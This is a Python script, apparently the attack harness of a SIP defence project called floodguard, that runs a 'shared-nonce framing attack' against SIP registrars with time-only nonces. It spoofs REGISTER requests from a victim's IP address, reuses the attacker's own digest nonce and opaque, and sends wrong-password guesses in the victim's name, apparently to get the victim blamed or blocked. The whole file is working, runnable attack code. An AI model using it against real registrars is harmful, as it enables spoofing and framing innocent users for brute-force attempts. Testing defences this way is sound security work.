"""The shared-nonce framing attack, run in the client namespace (a script, not a test).

    shared_nonce_attack.py --attacker IP --victim IP --server IP [--guesses N] [--tries N]

A registrar whose nonces hold only the time (Kamailio's stock auth, Asterisk PJSIP) gives every
client challenged in the same second the same nonce. The attacker sends a REGISTER "from" the
victim and one of its own in the same second, reads the nonce (and the opaque) from its own
401, then sends guesses "from" the victim with them (wrong passwords). It never reads what goes
to the victim's address: the replies to the spoofed packets are only looked at to report
whether the registrar really handed out one nonce to both. Prints {"nonce", "shared",
"guesses"} as JSON.
"""

from __future__ import annotations

import argparse
import json
import socket
import time

from floodguard.sip import build
from floodguard.sip.message import DigestChallenge, SipParseError


def register(src: str, sport: int, dst: str, call_id: str, cseq: int,
             auth: str | None = None) -> bytes:
    return build.register(dst, user="1002", local=f"{src}:{sport}", call_id=call_id, cseq=cseq,
                          expires=None, authorization=auth, branch=f"z9hG4bK-{call_id}-{cseq}",
                          rport=False, tag=f"t-{call_id}")


def challenge(sock: socket.socket) -> DigestChallenge | None:
    try:
        return build.challenge_of(sock.recv(65535))
    except (OSError, SipParseError):
        return None


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--attacker", required=True)
    ap.add_argument("--victim", required=True)
    ap.add_argument("--server", required=True)
    ap.add_argument("--guesses", type=int, default=8)
    ap.add_argument("--tries", type=int, default=5)
    args = ap.parse_args()
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind((args.attacker, 5098))
    own.settimeout(2)
    spoof = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    spoof.bind((args.victim, 5097))
    spoof.settimeout(2)
    mine = theirs = None
    for attempt in range(args.tries):
        time.sleep(1.0 - time.time() % 1.0 + 0.05)  # both at the start of one second
        spoof.sendto(register(args.victim, 5097, args.server, f"frame-{attempt}", 1),
                     (args.server, 5060))
        own.sendto(register(args.attacker, 5098, args.server, f"own-{attempt}", 1),
                   (args.server, 5060))
        mine, theirs = challenge(own), challenge(spoof)
        if mine and theirs and mine.nonce == theirs.nonce:
            break
    if mine is None:
        raise SystemExit("no challenge for the attacker's own REGISTER")
    for i in range(args.guesses):
        # the attacker's nonce, with its opaque (the guard's token for the attacker) every
        # other time, and a wrong password
        option = mine if i % 2 == 0 else mine._replace(opaque=None)
        auth = build.answer(option, "1002", f"guess-{i}", "REGISTER", f"sip:{args.server}")
        spoof.sendto(register(args.victim, 5097, args.server, f"guess-{i}", 2, auth),
                     (args.server, 5060))
        time.sleep(0.25)
    print(json.dumps({"nonce": mine.nonce,
                      "shared": bool(theirs and theirs.nonce == mine.nonce),
                      "guesses": args.guesses}))


if __name__ == "__main__":
    main()
